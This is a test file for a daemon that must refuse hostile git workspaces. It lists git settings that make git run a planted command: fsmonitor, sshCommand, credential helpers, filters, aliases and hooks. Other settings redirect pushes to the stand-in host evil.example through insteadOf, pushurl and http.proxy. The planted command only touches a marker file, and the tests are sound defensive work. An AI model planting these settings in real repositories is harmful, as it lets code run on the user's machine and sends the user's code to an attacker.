import { chmodSync, existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { OperationReply, ProjectConfig } from "../../wire/schema.ts";
import { expectDenied } from "../contract/conformance.ts";
import { Base, TOKEN } from "../fixtures/base.ts";
import { startDaemon } from "../fixtures/daemon.ts";
import { run } from "../fixtures/exchange.ts";
import { git, makeRepo } from "../fixtures/repo.ts";
import { fixturePrograms, projectRoot, tempDirectory } from "../fixtures/temp.ts";

const programs = fixturePrograms();

/** A workspace, a daemon on it with the operations of a bundled template, and a marker that a planted command would leave. */
interface Trap {
  readonly repo: string;
  readonly marker: string;
  /** A command line that leaves the marker. */
  readonly command: string;
  /** Runs every operation of the project once, and returns the replies. */
  runAll(): Promise<readonly OperationReply[]>;
}

const VALUES: Readonly<Record<string, unknown>> = {
  count: 3,
  number: 1,
  branch: "ai/x",
  body: "text",
  run_id: 1,
  comment_id: 1,
  path: "README.md",
  bucket: "s3://bucket",
  commit: "abcdef",
};

/** The template with programs that this machine has; what it lacks (gh, aws) is stood for by git, which is what gh runs by itself. */
function templateProject(name: string, repo: string): ProjectConfig {
  const template = JSON.parse(readFileSync(join(projectRoot, "templates", `${name}.json`), "utf8")) as ProjectConfig;
  return { ...template, repos: ["owner/repo"], repo_paths: [repo] };
}

async function trap(template: string): Promise<Trap> {
  const directory = tempDirectory();
  const repo = makeRepo(join(directory, "repo"));
  const marker = join(directory, "marker");
  const base = new Base();
  const project = templateProject(template, repo);
  base.writeProject("owner_repo", project).writeToken(TOKEN, { repo: "owner/repo" });
  // Nothing of the user's may be reached by what is tried here.
  const { address } = await startDaemon(base, { default_timeout: 10 }, { PATH: process.env["PATH"], HOME: directory });
  return {
    repo,
    marker,
    command: `${programs}/touch-file ${marker}`,
    runAll: async () => {
      const replies: OperationReply[] = [];
      for (const operation of project.allowed_operations ?? []) {
        const names = Object.keys(project.operations?.[operation]?.params ?? {});
        const params = Object.fromEntries(names.map((name) => [name, VALUES[name]]));
        replies.push(await run(address, { operation, params }));
      }
      return replies;
    },
  };
}

/** State that a container can put into its workspace; each would run the command, or send git elsewhere. */
const PLANTS: Readonly<Record<string, (trap: Trap) => void>> = {
  "core.fsmonitor": ({ repo, command }) => git(repo, "config", "core.fsmonitor", command),
  "core.sshCommand": ({ repo, command }) => git(repo, "config", "core.sshCommand", command),
  "core.askPass": ({ repo, command }) => git(repo, "config", "core.askPass", command),
  "core.gitProxy": ({ repo, command }) => git(repo, "config", "core.gitProxy", command),
  "core.pager": ({ repo, command }) => git(repo, "config", "core.pager", command),
  "core.worktree": ({ repo }) => git(repo, "config", "core.worktree", "/etc"),
  "credential.helper": ({ repo, command }) => git(repo, "config", "credential.helper", `!${command}`),
  "gpg.program": ({ repo, command }) => {
    git(repo, "config", "gpg.program", command);
    git(repo, "config", "push.gpgSign", "true");
  },
  "remote.origin.uploadpack": ({ repo, command }) => git(repo, "config", "remote.origin.uploadpack", command),
  "a filter": ({ repo, command }) => {
    git(repo, "config", "filter.x.clean", command);
    writeFileSync(join(repo, ".gitattributes"), "* filter=x\n");
  },
  "diff.external": ({ repo, command }) => git(repo, "config", "diff.external", command),
  "a textconv": ({ repo, command }) => {
    git(repo, "config", "diff.x.textconv", command);
    writeFileSync(join(repo, ".gitattributes"), "* diff=x\n");
  },
  "a merge driver": ({ repo, command }) => git(repo, "config", "merge.x.driver", command),
  "an alias": ({ repo, command }) => git(repo, "config", "alias.log", `!${command}`),
  pushInsteadOf: ({ repo }) => git(repo, "config", "url.git@evil.example:x/.pushInsteadOf", "git@github.com:owner/"),
  insteadOf: ({ repo }) => git(repo, "config", "url.git@evil.example:x/.insteadOf", "git@github.com:owner/"),
  "insteadOf through an include": ({ repo }) => {
    writeFileSync(join(repo, "inc"), '[url "git@evil.example:x/"]\n\tinsteadOf = git@github.com:owner/\n');
    git(repo, "config", "include.path", "../inc");
  },
  "insteadOf through includeIf": ({ repo }) => {
    writeFileSync(join(repo, "inc"), "");
    git(repo, "config", "includeIf.gitdir:/.path", "../inc");
  },
  "configuration of the work tree": ({ repo, command }) => {
    git(repo, "config", "extensions.worktreeConfig", "true");
    writeFileSync(join(repo, ".git/config.worktree"), `[core]\n\tfsmonitor = ${command}\n`);
  },
  "a remote called like the URL": ({ repo }) =>
    git(repo, "config", "remote.git@github.com:owner/repo.git.pushurl", "git@evil.example:x/y.git"),
  "http.proxy": ({ repo }) => git(repo, "config", "http.proxy", "http://evil.example"),
  "http.sslVerify": ({ repo }) => git(repo, "config", "http.sslVerify", "false"),
  "http.extraHeader": ({ repo }) => git(repo, "config", "http.extraHeader", "X: y"),
  "submodule.recurse": ({ repo }) => git(repo, "config", "submodule.recurse", "true"),
  "borrowed objects": ({ repo }) => {
    mkdirSync(join(repo, ".git/objects/info"), { recursive: true });
    writeFileSync(join(repo, ".git/objects/info/alternates"), "/somewhere/objects\n");
  },
};

describe("a hostile workspace", () => {
  it("is refused by what works on its files, whatever its git configuration says, with what to do [promise 5]", async () => {
    for (const [name, plant] of Object.entries(PLANTS)) {
      const one = await trap("local_demo");
      plant(one);
      for (const reply of await one.runAll()) {
        expect([name, reply.denied_reason === null ? reply.stderr : reply.code]).toEqual([name, "workspace_untrusted"]);
        expect(reply.hint).not.toBe("");
      }
      expect([name, existsSync(one.marker)]).toEqual([name, false]);
    }
  });

  it.each([".git/hooks", ".husky"])("runs no hooks of %s [promise 5]", async (place) => {
    const one = await trap("local_demo");
    const hooks = join(one.repo, place);
    if (place !== ".git/hooks") git(one.repo, "config", "core.hooksPath", place);
    mkdirSync(hooks, { recursive: true });
    for (const name of [
      "pre-commit",
      "post-checkout",
      "post-index-change",
      "reference-transaction",
      "pre-push",
      "fsmonitor-watchman",
      "post-merge",
    ]) {
      writeFileSync(join(hooks, name), `#!/bin/sh\n${one.command}\n`);
      chmodSync(join(hooks, name), 0o755);
    }
    const replies = await one.runAll();
    expect(replies.map(({ denied_reason }) => denied_reason)).toEqual(replies.map(() => null));
    expect(replies.some(({ stdout }) => stdout.includes("first commit"))).toBe(true);
    expect(existsSync(one.marker)).toBe(false);
  });

  it("cannot lead elsewhere with a .git that is a link or names another place [promise 7]", async () => {
    const other = makeRepo(join(tempDirectory(), "other"));
    for (const plant of [
      (repo: string) => {
        symlinkSync(join(other, ".git"), join(repo, ".git"));
      },
      (repo: string) => {
        writeFileSync(join(repo, ".git"), `gitdir: ${join(other, ".git")}\n`);
      },
    ]) {
      const directory = tempDirectory();
      const repo = join(directory, "repo");
      mkdirSync(repo);
      plant(repo);
      const base = new Base();
      base.writeProject("owner_repo", templateProject("local_demo", repo)).writeToken(TOKEN, { repo: "owner/repo" });
      const { address } = await startDaemon(base);
      expectDenied(
        await run(address, { operation: "git_log", params: { count: 1 } }),
        "workspace refused",
        "workspace_untrusted",
      );
    }
  });

  it("cannot put a program where the daemon would run it [promise 1]", async () => {
    const directory = tempDirectory();
    const repo = makeRepo(join(directory, "repo"));
    const marker = join(directory, "marker");
    writeFileSync(join(repo, "tool"), `#!/bin/sh\ntouch ${marker}\n`);
    chmodSync(join(repo, "tool"), 0o755);
    symlinkSync(join(repo, "tool"), join(directory, "innocent"));
    const base = new Base();
    const commands = [join(repo, "tool"), join(directory, "innocent"), "tool"];
    const operations = Object.fromEntries(commands.map((command, index) => [`op${index}`, { command }]));
    base.writeProject("owner_repo", {
      repos: ["owner/repo"],
      repo_paths: [repo],
      allowed_operations: Object.keys(operations),
      operations,
    });
    base.writeToken(TOKEN, { repo: "owner/repo" });
    const { address } = await startDaemon(base, {}, { PATH: `${repo}:.::${process.env["PATH"] ?? ""}` });
    expect((await run(address, { operation: "op0" })).code).toBe("command_untrusted");
    expect((await run(address, { operation: "op1" })).code).toBe("command_untrusted");
    expect((await run(address, { operation: "op2" })).code).toBe("command_not_found");
    expect(existsSync(marker)).toBe(false);
  });
});
